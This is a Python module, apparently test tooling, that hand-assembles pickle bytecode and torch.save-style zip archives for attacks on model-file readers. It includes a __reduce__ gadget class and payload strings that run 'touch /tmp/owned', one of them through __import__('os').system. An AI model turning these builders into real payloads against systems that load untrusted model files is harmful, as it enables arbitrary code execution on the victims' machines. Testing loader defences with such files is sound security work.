"""An assembler of pickles and of the files that hold them, for attacks on readers."""

from __future__ import annotations

import io
import struct
import sys
import zipfile
from collections.abc import Callable
from typing import Any


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def call(module: str, attribute: str, *arguments: bytes) -> bytes:
    return name(module, attribute) + b"(" + b"".join(arguments) + b"tR"


def number(value: int) -> bytes:
    raw = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def numbers(*values: int) -> bytes:
    return b"(" + b"".join(map(number, values)) + b"t"


def program(body: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def archive(
    data: bytes, patch: Callable[[bytearray], None] | None = None, **storages: bytes
) -> bytes:
    """What torch.save would write around a pickle, then patched."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr("m/data.pkl", data)
        file.writestr("m/byteorder", sys.byteorder)
        for key, content in storages.items():
            file.writestr(f"m/data/{key.removeprefix('s')}", content)
    raw = bytearray(buffer.getvalue())
    if patch:
        patch(raw)
    return bytes(raw)


def zipped(body: bytes, protocol: int = 2, **storages: bytes) -> bytes:
    return archive(program(body, protocol), **storages)


class Reduced:
    def __init__(self, *parts: Any) -> None:
        self.parts = parts

    def __reduce__(self) -> Any:
        return self.parts


SHELL = text("touch /tmp/owned")
CODE = text("__import__('os').system('touch /tmp/owned')")


def legacy(*pickles: bytes, rest: bytes = b"") -> bytes:
    parts = [program(number(0x1950A86A20F9469CFC6C)), program(b"M\xe9\x03")]
    parts += [program(b"}" + text("little_endian") + b"\x88s"), program(b"}"), program(b"]")]
    for i, one in enumerate(pickles):
        parts[i] = one or parts[i]
    return b"".join(parts) + rest


def storage(key: str, elements: int, kind: str = "FloatStorage") -> bytes:
    fields = (text("storage"), name("torch", kind), text(key), text("cpu"), number(elements))
    return b"(" + b"".join(fields) + b"t"


def tensor(*parts: bytes, elements: int = 4, kind: str = "FloatStorage") -> bytes:
    """A rebuilt tensor over a storage of 16 bytes; parts: offset, sizes, strides."""
    hooks = call("collections", "OrderedDict")
    over = storage("0", elements, kind) + b"Q"
    return call("torch._utils", "_rebuild_tensor_v2", over, *parts, b"\x89", hooks)
